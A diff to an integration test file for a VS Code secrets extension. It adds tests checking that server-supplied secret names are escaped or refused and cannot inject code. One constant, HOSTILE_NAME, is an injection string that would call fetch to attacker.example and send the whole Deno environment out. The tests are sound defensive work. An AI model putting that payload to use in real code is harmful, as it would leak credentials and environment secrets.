@@ -5,7 +5,10 @@ import * as path from 'node:path';
 import * as vscode from 'vscode';
 import type { FluxbaseClient } from '../../src/core/api/fluxbaseClient';
 import type { CatalogEntry, SecretCatalog } from '../../src/core/explorer/secretCatalog';
+import { UnwritableNameError } from '../../src/core/code/secretNameWriter';
+import { findStringLiterals } from '../../src/core/code/stringLiterals';
 import { silentLogger } from '../../src/shared/logger';
+import { secretVariableName } from '../../src/core/secretVariable';
 import type { UserInput } from '../../src/core/userInput';
 import { parseCommandArgument } from '../../src/core/commandArgument';
 import type { CreateSecretPrefill } from '../../src/core/commands/createSecret';
@@ -19,6 +22,8 @@ import { startLocalFluxbase, type LocalFluxbase } from './support/localFluxbase'
 
 const admin = { email: 'code-commands-it@example.com', password: 'code-commands-it-password-1' };
 const CONNECTION_ID = 'code-commands-it';
+/** A name a hostile server can give a secret: written unescaped, it sends the function's environment away. */
+const HOSTILE_NAME = 'X" + (fetch("https://attacker.example/?" + JSON.stringify(Deno.env.toObject())), "") + "';
 
 /** Answers the pick with the item labelled `label`; any other question fails the test (the one scripted double). */
 function pickingInput(label: string): ScriptedUserInput {
@@ -78,8 +83,9 @@ describe('code feature commands in VS Code, against the local server', () => {
   /** The create flow as the explorer's command would end it: the secret really created on the server. */
   const createOnServer = async (prefill: CreateSecretPrefill) => {
     prefills.push(prefill);
-    const secret = await client.secrets.create({ name: prefill.name ?? 'UNNAMED', value: prefill.value ?? '' });
-    return { connectionId: CONNECTION_ID, secret };
+    const name = prefill.name ?? 'UNNAMED';
+    const secret = await client.secrets.create({ name, value: prefill.value ?? '' });
+    return { connectionId: CONNECTION_ID, name, secret };
   };
 
   before(async () => {
@@ -169,5 +175,43 @@ describe('code feature commands in VS Code, against the local server', () => {
       [['FLUXBASE_SECRET_PICKED']],
     );
     assert.match(editor.document.getText(), /\nDeno\.env\.get\("FLUXBASE_SECRET_PICKED"\)$/);
+  });
+
+  it('writes the name the person chose, never a different name the server answers with', async () => {
+    const editor = await openEditor('typescript', 'const webhookToken = "whsec_1";\n', 'whsec');
+    const answered = await client.secrets.create({ name: `answered_${Date.now()}`, value: 'v' });
+    await extractToSecret({
+      logger: silentLogger,
+      createSecret: async (prefill) => ({
+        connectionId: CONNECTION_ID,
+        name: prefill.name ?? '',
+        secret: { ...answered, name: HOSTILE_NAME },
+      }),
+    })();
+    assert.equal(editor.document.getText(), 'const webhookToken = Deno.env.get("FLUXBASE_SECRET_WEBHOOK_TOKEN");\n');
+  });
+
+  it('inserts a hostile name as one escaped literal, and refuses it for a user template', async () => {
+    const catalog: SecretCatalog = {
+      entries: (): CatalogEntry[] => [],
+      connections: () => [{ id: CONNECTION_ID, name: 'Local' }],
+      onDidChange: () => ({ dispose: () => undefined }),
+    };
+    const node = { kind: 'secret', ref: { connectionId: CONNECTION_ID, id: 'i', name: HOSTILE_NAME, scope: 'global' } };
+    const editor = await openEditor('typescript', 'const key = ;\n', ';');
+    await insertReference({ catalog, input: pickingInput('unused') })(node);
+    const written = editor.document.getText();
+    assert.equal(written, `const key = Deno.env.get(${JSON.stringify(secretVariableName(HOSTILE_NAME))});\n`);
+    assert.deepEqual(
+      findStringLiterals(written).map((literal) => literal.value),
+      [secretVariableName(HOSTILE_NAME)],
+    );
+
+    await vscode.workspace
+      .getConfiguration('fluxbaseSecrets')
+      .update('referenceTemplates', { plaintext: 'env(${variable})' }, vscode.ConfigurationTarget.Global);
+    const plain = await openEditor('plaintext', 'key = ;\n', ';');
+    await assert.rejects(insertReference({ catalog, input: pickingInput('unused') })(node), UnwritableNameError);
+    assert.equal(plain.document.getText(), 'key = ;\n');
   });
 });
